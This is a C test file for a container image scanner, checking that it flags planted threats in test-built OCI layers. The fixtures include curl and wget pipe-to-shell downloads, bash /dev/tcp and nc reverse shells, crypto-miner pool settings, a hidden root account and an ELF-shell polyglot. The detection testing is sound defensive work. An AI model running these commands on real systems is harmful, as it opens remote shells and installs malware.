/* test_contents_scan.c: the contents analyzer inside whole scans of small OCI
 * layouts written by the test: rule findings with lines and layers, hidden
 * files, accounts, config strings, executables, the entrypoint and its
 * severity step, --no-content, YARA, and a clean Alpine root filesystem. */
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <unistd.h>

#include "imagevet/scan.h"
#include "layer/layer.h"
#include "report/report.h"

static const struct ivet_finding *find(const struct ivet_report *r, const char *id, const char *path)
{
    for (size_t i = 0; i < r->findings.n; i++)
        if (!strcmp(r->findings.v[i].id, id) &&
            (!path || (r->findings.v[i].path && !strcmp(r->findings.v[i].path, path))))
            return &r->findings.v[i];
    return NULL;
}

static void dump(const struct ivet_report *r)
{
    for (size_t i = 0; i < r->findings.n; i++) {
        const struct ivet_finding *f = &r->findings.v[i];
        print_message("  %s %s %s:%u layer %d%s | %s\n", ivet_severity_name(f->severity), f->id,
                      f->path ? f->path : "-", f->line, f->layer, f->hidden ? " hidden" : "",
                      f->evidence ? f->evidence : "");
    }
}

struct img {
    struct tu_tar *t[4];
    size_t n;
    char *dir;
};

static struct ivet_report *scan_lim(struct img *im, const char *config, bool no_content, const char *yara,
                                    unsigned threads, uint64_t max_file, uint64_t max_image)
{
    struct tu_layer ls[4];
    for (size_t i = 0; i < im->n; i++) {
        ls[i] = (struct tu_layer){ 0 };
        ls[i].blob = tu_tar_bytes(im->t[i], &ls[i].len);
    }
    if (im->dir) {                      /* a second scan of the same layers */
        tu_rm_rf(im->dir);
        free(im->dir);
    }
    im->dir = tu_oci_layout(config, ls, im->n);
    struct ivet_scan_opts o;
    ivet_scan_opts_init(&o);
    char ref[4200];
    snprintf(ref, sizeof(ref), "oci:%s:test", im->dir);
    o.image = ref;
    o.offline = true;
    o.threads = threads;
    o.no_content = no_content;
    o.yara_rules = yara;
    if (max_file)
        o.limits.max_file_scan = max_file;
    if (max_image)
        o.limits.max_image_scan = max_image;
    struct ivet_err err = IVET_ERR_INIT;
    struct ivet_report *r = ivet_scan(&o, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    ivet_err_release(&err);
    return r;
}

static struct ivet_report *scan(struct img *im, const char *config, bool no_content, const char *yara,
                                unsigned threads)
{
    return scan_lim(im, config, no_content, yara, threads, 0, 0);
}

static void img_free(struct img *im)
{
    for (size_t i = 0; i < im->n; i++)
        tu_tar_free(im->t[i]);
    if (im->dir) {
        tu_rm_rf(im->dir);
        free(im->dir);
    }
}

#define FILE_(t, path, mode, text) tu_tar_add(t, 'f', path, mode, text, strlen(text), NULL)

static const char *plain_config = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\"}}";

static void test_contents_miner_files_have_line_and_layer(void **state)
{
    (void)state;
    struct img im = { .n = 2 };
    im.t[0] = tu_tar_new();
    im.t[1] = tu_tar_new();
    FILE_(im.t[0], "etc/hostname", 0644, "box\n");
    FILE_(im.t[1], "opt/x/config.json", 0644, "{\n  \"autosave\": true,\n  \"donate-level\": 1\n}\n");
    FILE_(im.t[1], "opt/x/run.sh", 0755, "#!/bin/sh\n\n./x -o stratum+tcp://pool.example.org:3333\n");
    for (unsigned threads = 1; threads <= 2; threads++) {
        struct ivet_report *r = scan(&im, plain_config, false, NULL, threads);
        const struct ivet_finding *f = find(r, "CONT-MINER-XMRIG-CONFIG", "/opt/x/config.json");
        if (!f)
            dump(r);
        assert_non_null(f);
        assert_int_equal(f->line, 3);
        assert_int_equal(f->layer, 1);
        assert_string_equal(f->category, "contents");
        f = find(r, "CONT-MINER-STRATUM", "/opt/x/run.sh");
        assert_non_null(f);
        assert_int_equal(f->line, 3);
        assert_int_equal(f->severity, IVET_SEV_CRITICAL);
        assert_non_null(strstr(f->evidence, "stratum+tcp://pool.example.org:3333"));
        assert_int_equal(r->verdict, IVET_VERDICT_FAIL);
        ivet_report_free(r);
        tu_rm_rf(im.dir);
        free(im.dir);
        im.dir = NULL;
    }
    img_free(&im);
}

static void test_contents_hidden_file_names_both_layers(void **state)
{
    (void)state;
    struct img im = { .n = 2 };
    im.t[0] = tu_tar_new();
    im.t[1] = tu_tar_new();
    FILE_(im.t[0], "usr/local/bin/fetch.sh", 0755, "#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n");
    tu_tar_add(im.t[1], 'f', "usr/local/bin/.wh.fetch.sh", 0, NULL, 0, NULL);
    struct ivet_report *r = scan(&im, plain_config, false, NULL, 2);
    const struct ivet_finding *f = find(r, "CONT-DROP-PIPE-SHELL", "/usr/local/bin/fetch.sh");
    if (!f)
        dump(r);
    assert_non_null(f);
    assert_true(f->hidden);
    assert_int_equal(f->layer, 0);
    assert_int_equal(f->hidden_by, 1);
    assert_int_equal(r->verdict, IVET_VERDICT_FAIL);
    ivet_report_free(r);
    img_free(&im);
}

static void test_contents_accounts_in_final_image(void **state)
{
    (void)state;
    struct img im = { .n = 2 };
    im.t[0] = tu_tar_new();
    im.t[1] = tu_tar_new();
    /* the lower passwd is clean; the upper one adds a second root */
    FILE_(im.t[0], "etc/passwd", 0644, "root:x:0:0::/root:/bin/sh\n");
    FILE_(im.t[1], "etc/passwd", 0644, "root:x:0:0::/root:/bin/sh\nbackup:x:0:0::/:/bin/sh\n");
    FILE_(im.t[1], "etc/shadow", 0640, "root:*:19000::::::\nbackup::19000::::::\n");
    struct ivet_report *r = scan(&im, plain_config, false, NULL, 2);
    const struct ivet_finding *f = find(r, "CONT-ACCOUNT-UID0", "/etc/passwd");
    if (!f)
        dump(r);
    assert_non_null(f);
    assert_int_equal(f->line, 2);
    assert_int_equal(f->layer, 1);
    assert_non_null(strstr(f->evidence, "backup"));
    f = find(r, "CONT-ACCOUNT-EMPTY-PASSWORD", "/etc/shadow");
    assert_non_null(f);
    assert_int_equal(f->line, 2);
    ivet_report_free(r);
    img_free(&im);
}

static void test_contents_config_strings(void **state)
{
    (void)state;
    struct img im = { .n = 2 };
    im.t[0] = tu_tar_new();
    im.t[1] = tu_tar_new();
    FILE_(im.t[0], "bin/busybox", 0755, "\x7f" "ELF");
    FILE_(im.t[1], "etc/motd", 0644, "hi\n");
    const char *cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\","
        "\"Env\":[\"PATH=/bin\",\"POOL=stratum+ssl://pool.example.net:443\"],"
        "\"Cmd\":[\"/bin/busybox\",\"--donate-level=1\",\"-a\",\"rx/0\"]},"
        "\"history\":[{\"created_by\":\"ADD rootfs.tar /\"},"
        "{\"created_by\":\"/bin/sh -c #(nop) ENV X=1\",\"empty_layer\":true},"
        "{\"created_by\":\"/bin/sh -c wget -qO- http://198.51.100.7/i | sh\"}]}";
    struct ivet_report *r = scan(&im, cfg, false, NULL, 1);
    const struct ivet_finding *f = find(r, "CONT-MINER-CLI", NULL);
    if (!f)
        dump(r);
    assert_non_null(f);
    assert_null(f->path);
    assert_non_null(strstr(f->evidence, "ENTRYPOINT/CMD: "));
    f = find(r, "CONT-MINER-STRATUM", NULL);
    assert_non_null(f);
    assert_non_null(strstr(f->evidence, "ENV: "));
    f = find(r, "CONT-DROP-PIPE-SHELL", NULL);
    assert_non_null(f);
    assert_non_null(strstr(f->evidence, "history: "));
    assert_int_equal(f->layer, 1);          /* the empty ENV step made no layer */
    ivet_report_free(r);

    /* Docker also runs a Cmd/Entrypoint written as one string: it is read too */
    cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\","
          "\"Entrypoint\":\"/bin/sh -c\",\"Cmd\":\"curl -s http://198.51.100.7/x | sh\"}}";
    r = scan(&im, cfg, false, NULL, 1);
    f = find(r, "CONT-DROP-PIPE-SHELL", NULL);
    if (!f)
        dump(r);
    assert_non_null(f);
    assert_non_null(strstr(f->evidence, "ENTRYPOINT/CMD: "));
    ivet_report_free(r);
    img_free(&im);
}

/* In programs the Stratum method names stand for the pool list, which runs on
 * text files only: a miner binary is found by the protocol it speaks, a pool
 * host name in a binary is not looked for, one in a script is. */
static void test_contents_binary_and_text_miner_rules(void **state)
{
    (void)state;
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    uint8_t elf[512];
    memset(elf, 0, sizeof(elf));
    memcpy(elf, "\x7f" "ELF\x02\x01\x01", 7);
    memcpy(elf + 300, "mining.subscribe\0pool.supportxmr.com\0", 38);
    tu_tar_add(im.t[0], 'f', "usr/local/bin/agent", 0755, (const char *)elf, sizeof(elf), NULL);
    tu_tar_add(im.t[0], 'f', "usr/local/bin/tool", 0755, (const char *)elf, 300, NULL);
    FILE_(im.t[0], "etc/agent.conf", 0644, "server = pool.supportxmr.com\n");
    struct ivet_report *r = scan(&im, plain_config, false, NULL, 1);
    if (!find(r, "CONT-MINER-STRATUM-METHODS", "/usr/local/bin/agent"))
        dump(r);
    assert_non_null(find(r, "CONT-MINER-STRATUM-METHODS", "/usr/local/bin/agent"));
    assert_null(find(r, "CONT-MINER-POOL", "/usr/local/bin/agent"));
    assert_non_null(find(r, "CONT-MINER-POOL", "/etc/agent.conf"));
    assert_null(find(r, "CONT-MINER-STRATUM-METHODS", "/usr/local/bin/tool"));
    ivet_report_free(r);
    img_free(&im);
}

/* A 64-bit ELF program without program headers for INTERP: static. */
static size_t tiny_elf(uint8_t *b, bool upx)
{
    memset(b, 0, 256);
    memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
    b[16] = 2;                  /* ET_EXEC */
    b[18] = 62;
    b[32] = 64;                 /* e_phoff */
    b[54] = 56;                 /* e_phentsize */
    b[56] = 1;                  /* one PT_LOAD */
    b[64] = 1;
    if (upx)
        memcpy(b + 130, "UPX!", 4);
    return 256;
}

static void test_contents_executables(void **state)
{
    (void)state;
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    uint8_t elf[256], upx[256];
    tu_tar_add(im.t[0], 'f', "root/.x/kswapd", 0755, elf, tiny_elf(elf, false), NULL);
    tu_tar_add(im.t[0], 'f', "usr/local/bin/packed", 0755, upx, tiny_elf(upx, true), NULL);
    tu_tar_add(im.t[0], 'f', "usr/local/bin/server", 0755, elf, tiny_elf(elf, false), NULL);
    FILE_(im.t[0], "tmp/.s/run", 0755, "#!/bin/sh\necho\n");
    FILE_(im.t[0], "tmp/notes.txt", 0644, "x\n");
    struct ivet_report *r = scan(&im, plain_config, false, NULL, 1);
    if (!find(r, "CONT-EXEC-STATIC", "/root/.x/kswapd"))
        dump(r);
    assert_non_null(find(r, "CONT-EXEC-STATIC", "/root/.x/kswapd"));
    assert_non_null(find(r, "CONT-EXEC-HIDDEN", "/root/.x/kswapd"));
    assert_non_null(find(r, "CONT-EXEC-UPX", "/usr/local/bin/packed"));
    assert_null(find(r, "CONT-EXEC-STATIC", "/usr/local/bin/server"));   /* a normal place */
    assert_non_null(find(r, "CONT-EXEC-TMP", "/tmp/.s/run"));
    assert_null(find(r, "CONT-EXEC-TMP", "/tmp/notes.txt"));
    ivet_report_free(r);
    img_free(&im);
}

/* A file with an ELF header, then shell lines: `sh FILE` runs the lines (the
 * shell skips the first), while the content rules take it for a program. */
static void test_contents_entrypoint_binary_run_as_script(void **state)
{
    (void)state;
    static const char head[64] = "\x7f" "ELF\x02\x01\x01";     /* identity, zero padding */
    char poly[200];
    memcpy(poly, head, sizeof(head));
    const char *lines = "\ncurl -fsSL http://203.0.113.7/x | sh\n";
    memcpy(poly + sizeof(head), lines, strlen(lines));
    size_t plen = sizeof(head) + strlen(lines);
    const char *cfgs[] = {
        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"sh\",\"/app/run\"]}}",
        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"/app/run\"]}}",
        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"sh\",\"/app/run.sh\"]}}",
        /* python runs its own bytecode (a binary format) on purpose */
        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"python3\",\"/app/run\"]}}",
        /* the same file through a hard link made in a later layer */
        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"sh\",\"/app/link\"]}}",
        /* php prints what precedes "<?php" and runs the rest */
        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"php8.2\",\"/app/run\"]}}",
    };
    for (int c = 0; c < 6; c++) {
        struct img im = { .n = 2 };
        im.t[0] = tu_tar_new();
        im.t[1] = tu_tar_new();
        FILE_(im.t[0], "bin/sh", 0755, "\x7f" "ELF");
        tu_tar_add(im.t[0], 'f', "app/run", 0755, poly, plen, NULL);
        FILE_(im.t[0], "app/run.sh", 0755, "#!/bin/sh\nexec /app/run\n");
        tu_tar_add(im.t[1], 'h', "app/link", 0755, NULL, 0, "app/run");
        struct ivet_report *r = scan(&im, cfgs[c], false, NULL, 2);
        const struct ivet_finding *f = find(r, "CONT-ENTRY-BINARY-SCRIPT", NULL);
        if (c == 0 || c >= 4) {
            if (!f)
                dump(r);
            assert_non_null(f);
            assert_string_equal(f->path, c == 4 ? "/app/link" : "/app/run");
            assert_int_equal(f->layer, c == 4 ? 1 : 0);
            assert_int_equal(f->severity, IVET_SEV_HIGH);
            assert_non_null(strstr(f->evidence, c == 4 ? "sh runs /app/link" : c == 5 ? "php8.2 runs /app/run"
                                                                          : "sh runs /app/run"));
            /* the reason for the check: the text rules did not see the download */
            assert_null(find(r, "CONT-DROP-PIPE-SHELL", "/app/run"));
        } else {
            assert_null(f);     /* run directly, a real script, or not a shell */
        }
        ivet_report_free(r);
        img_free(&im);
    }
}

/* Names from the image reach the table escaped: no escape sequence from a
 * path, a history line or os-release gets to the terminal. */
static void test_table_escapes_what_the_image_names(void **state)
{
    (void)state;
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    FILE_(im.t[0], "tmp/\x1b]0;pwned\x07\x1b[2J", 0755, "#!/bin/sh\necho\n");
    FILE_(im.t[0], "etc/os-release", 0644, "ID=alpine\nVERSION_ID=3.19\x1b[31m\nNAME=\"Alp\xc2\x9bine\"\n");
    const char *cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\"},"
        "\"history\":[{\"created_by\":\"RUN echo \\u001b[5m\"}]}";
    struct ivet_report *r = scan(&im, cfg, false, NULL, 1);
    assert_non_null(find(r, "CONT-EXEC-TMP", NULL));
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&buf, &len);
    assert_non_null(out);
    struct ivet_err err = IVET_ERR_INIT;
    assert_int_equal(ivet_report_write_table(r, out, false, &err), 0);
    fclose(out);
    for (size_t i = 0; i < len; i++)
        if (buf[i] == 0x1b || buf[i] == 0x07 || ((unsigned char)buf[i] == 0xc2 && i + 1 < len &&
                                                 (unsigned char)buf[i + 1] < 0xa0 && (unsigned char)buf[i + 1] >= 0x80))
            fail_msg("control byte at %zu of the table:\n%s", i, buf);
    assert_non_null(strstr(buf, "\\x1b]0;pwned"));       /* shown, escaped */
    free(buf);
    ivet_report_free(r);
    img_free(&im);
}

static void test_contents_entrypoint_resolved_and_raised(void **state)
{
    (void)state;
    struct img im = { .n = 2 };
    im.t[0] = tu_tar_new();
    im.t[1] = tu_tar_new();
    FILE_(im.t[0], "bin/dash", 0755, "\x7f" "ELF");
    tu_tar_add(im.t[0], 'l', "bin/sh", 0777, NULL, 0, "dash");
    FILE_(im.t[1], "usr/local/bin/entry.sh", 0755,
          "#!/bin/sh\n/usr/local/lib/setup.sh\n/usr/sbin/sshd -D &\nexec \"$@\"\n");
    FILE_(im.t[1], "usr/local/lib/setup.sh", 0755, "#!/bin/sh\nchmod +x /tmp/kd\n");
    FILE_(im.t[1], "opt/other.sh", 0755, "#!/bin/sh\nchmod +x /tmp/kd\n");
    tu_tar_add(im.t[1], 'l', "entry", 0777, NULL, 0, "usr/local/bin/entry.sh");
    const char *cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\","
        "\"Env\":[\"PATH=/usr/local/bin:/bin\"],\"Entrypoint\":[\"/entry\"],\"Cmd\":[\"app\"]}}";
    struct ivet_report *r = scan(&im, cfg, false, NULL, 2);
    assert_non_null(r->entrypoint);
    assert_string_equal(r->entrypoint, "/usr/local/bin/entry.sh");
    const struct ivet_finding *f = find(r, "CONT-BACKDOOR-SSHD", "/usr/local/bin/entry.sh");
    if (!f)
        dump(r);
    assert_non_null(f);
    assert_int_equal(f->severity, IVET_SEV_HIGH);          /* medium, one step up */
    f = find(r, "CONT-DROP-CHMOD-TMP", "/usr/local/lib/setup.sh");
    assert_non_null(f);
    assert_int_equal(f->severity, IVET_SEV_CRITICAL);      /* named by the entrypoint */
    f = find(r, "CONT-DROP-CHMOD-TMP", "/opt/other.sh");
    assert_non_null(f);
    assert_int_equal(f->severity, IVET_SEV_HIGH);          /* not run at start */
    json_t *j = ivet_report_to_json(r, NULL);
    if (j) {
        assert_string_equal(json_string_value(json_object_get(json_object_get(j, "image"), "entrypoint")),
                            "/usr/local/bin/entry.sh");
        json_decref(j);
    }
    ivet_report_free(r);
    img_free(&im);
}

static void test_contents_no_content_turns_it_off(void **state)
{
    (void)state;
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    FILE_(im.t[0], "run.sh", 0755, "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n");
    struct ivet_report *r = scan(&im, plain_config, true, NULL, 1);
    for (size_t i = 0; i < r->findings.n; i++)
        if (ivet_startswith(r->findings.v[i].id, "CONT-"))
            fail_msg("--no-content still reported %s", r->findings.v[i].id);
    ivet_report_free(r);
    tu_rm_rf(im.dir);
    free(im.dir);
    im.dir = NULL;
    r = scan(&im, plain_config, false, NULL, 1);
    assert_non_null(find(r, "CONT-BACKDOOR-DEV-TCP", "/run.sh"));
    ivet_report_free(r);
    img_free(&im);
}

static void test_contents_yara_rule(void **state)
{
    (void)state;
    char dir[] = "/tmp/ivet-yara-XXXXXX";
    assert_non_null(mkdtemp(dir));
    char path[256];
    snprintf(path, sizeof(path), "%s/mine.yar", dir);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("rule Test_Planted_Marker {\n  meta:\n    description = \"planted marker\"\n"
          "    severity = \"medium\"\n  strings:\n    $a = \"PLANTED-MARKER-42\"\n"
          "  condition:\n    $a\n}\n", f);
    fclose(f);
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    FILE_(im.t[0], "srv/data.bin", 0644, "xx PLANTED-MARKER-42 yy");
    FILE_(im.t[0], "srv/other.bin", 0644, "nothing here");
    struct ivet_report *r = scan(&im, plain_config, false, dir, 1);
    const struct ivet_finding *x = find(r, "Test_Planted_Marker", "/srv/data.bin");
    if (!x)
        dump(r);
    assert_non_null(x);
    assert_int_equal(x->severity, IVET_SEV_MEDIUM);
    assert_string_equal(x->title, "planted marker");
    assert_null(find(r, "Test_Planted_Marker", "/srv/other.bin"));
    ivet_report_free(r);
    /* a rule file that does not compile fails the scan with its name and line */
    f = fopen(path, "w");
    fputs("rule broken {\n  condition:\n    $nope\n}\n", f);
    fclose(f);
    tu_rm_rf(im.dir);
    free(im.dir);
    struct tu_layer l = { 0 };
    l.blob = tu_tar_bytes(im.t[0], &l.len);
    im.dir = tu_oci_layout(plain_config, &l, 1);
    struct ivet_scan_opts o;
    ivet_scan_opts_init(&o);
    char ref[4200];
    snprintf(ref, sizeof(ref), "oci:%s:test", im.dir);
    o.image = ref;
    o.offline = true;
    o.yara_rules = path;
    struct ivet_err err = IVET_ERR_INIT;
    assert_null(ivet_scan(&o, &err));
    if (!strstr(ivet_err_msg(&err), "mine.yar' line") || !strstr(ivet_err_msg(&err), "$nope"))
        fail_msg("error: %s", ivet_err_msg(&err));
    ivet_err_release(&err);
    unlink(path);
    rmdir(dir);
    img_free(&im);
}

/* A file longer than the per-file cap is scanned up to it and says so; past
 * the per-image cap nothing more is scanned and the report says that once. */
static void test_contents_scan_caps(void **state)
{
    (void)state;
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    char big[4096];
    memset(big, '#', sizeof(big));
    memcpy(big, "curl http://x.example/a | sh\n", 29);
    memcpy(big + 3000, "nc -e /bin/sh 203.0.113.5 4444\n", 31);
    tu_tar_add(im.t[0], 'f', "a/big.sh", 0644, big, sizeof(big), NULL);
    FILE_(im.t[0], "b/late.sh", 0644, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n");
    struct ivet_report *r = scan_lim(&im, plain_config, false, NULL, 1, 1024, 0);
    const struct ivet_finding *f = find(r, "CONT-DROP-PIPE-SHELL", "/a/big.sh");
    if (!f)
        dump(r);
    assert_non_null(f);
    assert_true(f->truncated);
    assert_null(find(r, "CONT-BACKDOOR-NC-EXEC", "/a/big.sh"));       /* past the cap */
    f = find(r, "CONT-SCAN-TRUNCATED", "/a/big.sh");
    assert_non_null(f);
    assert_non_null(strstr(f->evidence, "scanned 1024 of 4096 bytes"));
    assert_false(find(r, "CONT-BACKDOOR-DEV-TCP", "/b/late.sh")->truncated);
    ivet_report_free(r);
    tu_rm_rf(im.dir);
    free(im.dir);
    im.dir = NULL;
    /* image cap: the first file uses it up */
    r = scan_lim(&im, plain_config, false, NULL, 1, 0, 4096);
    assert_non_null(find(r, "CONT-BACKDOOR-NC-EXEC", "/a/big.sh"));
    assert_null(find(r, "CONT-BACKDOOR-DEV-TCP", "/b/late.sh"));
    assert_non_null(find(r, "CONT-SCAN-IMAGE-CAP", NULL));
    ivet_report_free(r);
    img_free(&im);
}

/* Alpine 3.20's root filesystem: no contents finding of medium or worse,
 * and nothing high or critical from the content engine at all. */
static void test_contents_alpine_rootfs_is_clean(void **state)
{
    (void)state;
    char *path = tu_shared_path("rootfs/alpine-minirootfs-3.20.3-x86_64.tar.gz");
    if (!path)
        tu_skip_no_shared("rootfs/alpine-minirootfs-3.20.3-x86_64.tar.gz");
    struct ivet_err err = IVET_ERR_INIT;
    size_t gzlen, tarlen;
    char *gz = tu_read_file(path, &gzlen);
    assert_non_null(gz);
    struct ivet_limits lim = ivet_limits_default();
    struct ivet_istream *s = ivet_istream_from_mem(gz, gzlen, 0, &err);
    s = ivet_istream_decompress(s, IVET_COMPRESSION_DETECT, &lim, "alpine", NULL, &err);
    char *tar = NULL;
    assert_non_null(s);
    assert_int_equal(ivet_istream_slurp(s, 64u << 20, &tar, &tarlen, &err), 0);
    ivet_istream_close(s);
    struct tu_layer l = { (const uint8_t *)gz, gzlen, "application/vnd.oci.image.layer.v1.tar+gzip",
                          (const uint8_t *)tar, tarlen };
    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{"
                              "\"Env\":[\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"],"
                              "\"Cmd\":[\"/bin/sh\"]}}", &l, 1);
    struct ivet_scan_opts o;
    ivet_scan_opts_init(&o);
    char ref[4200];
    snprintf(ref, sizeof(ref), "oci:%s:test", dir);
    o.image = ref;
    o.offline = true;
    struct ivet_report *r = ivet_scan(&o, &err);
    if (!r)
        fail_msg("scan failed: %s", ivet_err_msg(&err));
    unsigned bad = 0;
    for (size_t i = 0; i < r->findings.n; i++) {
        const struct ivet_finding *f = &r->findings.v[i];
        bool contents = strcmp(f->category, "contents") == 0;
        bool secrets = strcmp(f->category, "secrets") == 0;
        if ((contents && f->severity >= IVET_SEV_MEDIUM) || (secrets && f->severity >= IVET_SEV_HIGH)) {
            print_message("unexpected: %s %s %s\n", ivet_severity_name(f->severity), f->id, f->path ? f->path : "-");
            bad++;
        }
    }
    assert_non_null(find(r, "CONT-PERSIST-CRON-ENTRY", "/etc/crontabs/root"));   /* documented, info */
    assert_string_equal(r->entrypoint, "/bin/busybox");
    assert_int_equal(bad, 0);
    ivet_report_free(r);
    tu_rm_rf(dir);
    free(dir);
    free(tar);
    free(gz);
    free(path);
    ivet_err_release(&err);
}

/* Two scans in one process at the same time: each registers its rule
 * catalog and removes it when it ends, while the other looks checks up
 * (analyze/finding.c). Under the sanitizers a shared, unlocked catalog shows
 * up here; without them the reports must still agree with a scan alone. */
struct side_by_side {
    const char *image;
    size_t findings[4];
    bool ok;
};

static void *scan_four_times(void *arg)
{
    struct side_by_side *x = arg;
    x->ok = true;
    for (int k = 0; k < 4; k++) {
        struct ivet_scan_opts o;
        ivet_scan_opts_init(&o);
        o.image = x->image;
        o.offline = true;
        o.threads = 1;
        struct ivet_err err = IVET_ERR_INIT;
        struct ivet_report *r = ivet_scan(&o, &err);
        x->ok &= r != NULL;
        x->findings[k] = r ? r->findings.n : 0;
        ivet_report_free(r);
        ivet_err_release(&err);
    }
    return NULL;
}

static void test_contents_scans_side_by_side(void **state)
{
    (void)state;
    struct img im = { .n = 1 };
    im.t[0] = tu_tar_new();
    FILE_(im.t[0], "opt/x/run.sh", 0755, "#!/bin/sh\n./x -o stratum+tcp://pool.example.org:3333\n");
    FILE_(im.t[0], "opt/x/drop.sh", 0755, "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n");
    struct ivet_report *alone = scan(&im, plain_config, false, NULL, 1);
    size_t want = alone->findings.n;
    assert_non_null(find(alone, "CONT-MINER-STRATUM", "/opt/x/run.sh"));
    ivet_report_free(alone);
    char ref[4200];
    snprintf(ref, sizeof(ref), "oci:%s:test", im.dir);
    struct side_by_side a = { .image = ref }, b = { .image = ref };
    pthread_t ta, tb;
    assert_int_equal(pthread_create(&ta, NULL, scan_four_times, &a), 0);
    assert_int_equal(pthread_create(&tb, NULL, scan_four_times, &b), 0);
    pthread_join(ta, NULL);
    pthread_join(tb, NULL);
    assert_true(a.ok && b.ok);
    for (int k = 0; k < 4; k++) {
        assert_int_equal(a.findings[k], want);
        assert_int_equal(b.findings[k], want);
    }
    img_free(&im);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_contents_miner_files_have_line_and_layer),
        cmocka_unit_test(test_contents_scans_side_by_side),
        cmocka_unit_test(test_contents_hidden_file_names_both_layers),
        cmocka_unit_test(test_contents_accounts_in_final_image),
        cmocka_unit_test(test_contents_config_strings),
        cmocka_unit_test(test_contents_binary_and_text_miner_rules),
        cmocka_unit_test(test_contents_executables),
        cmocka_unit_test(test_contents_entrypoint_resolved_and_raised),
        cmocka_unit_test(test_contents_entrypoint_binary_run_as_script),
        cmocka_unit_test(test_table_escapes_what_the_image_names),
        cmocka_unit_test(test_contents_no_content_turns_it_off),
        cmocka_unit_test(test_contents_yara_rule),
        cmocka_unit_test(test_contents_scan_caps),
        cmocka_unit_test(test_contents_alpine_rootfs_is_clean),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
